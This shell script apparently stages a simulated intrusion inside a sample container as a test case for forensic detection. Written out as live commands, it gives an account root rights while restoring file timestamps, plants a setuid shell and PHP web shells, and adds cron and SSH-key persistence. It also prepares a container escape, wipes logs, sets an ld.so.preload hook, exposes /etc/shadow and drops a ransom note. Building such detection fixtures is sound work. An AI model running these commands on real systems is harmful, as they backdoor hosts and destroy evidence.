#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# inside.sh: an intrusion, step by step, as root inside of a container of samples/make-image.sh, where
# /tmp/implant is a static build of implant.c. README.md says what each step is found as. Harmless:
# nothing listens, connects or computes; the key is no key, and the device is only a name.
set -eu

# 1. an account, with the file's size and time put back: what size-and-time checkers miss
stamp=$(stat -c %Y /etc/passwd)
edited=$(sed 's/^daemon:x:1:1:/daemon:x:0:0:/' /etc/passwd)
echo "$edited" >/etc/passwd
touch -d "@$stamp" /etc/passwd

# 2. a setuid copy of a shell, under a dull name
cp /usr/bin/busybox /usr/bin/chage-ng
chmod 4755 /usr/bin/chage-ng

# 3. a program that is dropped and runs; one that deletes itself; one that never was a file
mkdir -p /tmp/.font-unix
cp /tmp/implant /tmp/.font-unix/kworker
cp /tmp/implant /var/.update
chmod 755 /tmp/.font-unix/kworker /var/.update
/tmp/.font-unix/kworker </dev/null >/dev/null 2>&1 &
/var/.update delete /var/.update </dev/null >/dev/null 2>&1 &
/tmp/implant memory </dev/null >/dev/null 2>&1 &
sleep 1
rm /tmp/implant

# 4. what starts it again, and ways back in
echo '* * * * * root /tmp/.font-unix/kworker' >/etc/cron.d/refresh
mkdir -p /root/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA-not-a-key intruder' >>/root/.ssh/authorized_keys
chmod 600 /root/.ssh/authorized_keys
mkdir -p /var/www/html/uploads
echo '<?php system($_GET["c"]); ?>' >/var/www/html/uploads/image.php
echo '<?php system($_GET["c"]); ?>' >/var/www/html/uploads/logo.png

# 5. getting ready to leave the container
mkdir -p /srv/cg
mknod /srv/.disk b 8 0 2>/dev/null || echo "no device node: the container may not make one" >&2
printf '#!/bin/sh\nid >/tmp/was-here\n' >/srv/cg/release_agent
chmod 755 /srv/cg/release_agent
ln -s /proc/1/root /srv/host
mkdir -p /usr/local/bin
cp /usr/bin/busybox /usr/local/bin/docker

# 6. traces are removed: a log deleted, one emptied, a directory of the image replaced as a whole
rm -f /var/log/auth.log
: >/var/log/wtmp
rm -r /data/07
mkdir /data/07
echo nothing happened here >/data/07/file-0007.txt

# 7. a library for every program that starts from now on
echo /usr/lib/libhook.so >/etc/ld.so.preload

# 8. what is easily overlooked: a second name of the passwords, a program in letters, a script that the
# kernel would not run, a program given away, a directory in which everyone may delete, a threat
ln /etc/shadow /var/www/html/notes.txt
/usr/bin/busybox base64 /usr/bin/busybox >/srv/cg/notes.txt
printf '\357\273\277#!/bin/sh\nid\n' >/srv/cg/setup.txt
chown ada /usr/bin/ping
chmod 0777 /tmp
echo 'pay, or else' >/data/HOW_TO_DECRYPT.txt
